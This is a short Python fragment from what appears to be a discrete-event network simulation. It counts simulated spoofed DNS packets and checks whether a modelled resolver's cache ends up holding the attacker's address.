            attacker.packets["spoofed_dns"] += 1
        yield attacker.sim.env.timeout(3000)
        entry = resolver.lookup(qname)
        if entry is not None and address in entry.addresses:
            successes += 1
        batch += 1
    return successes
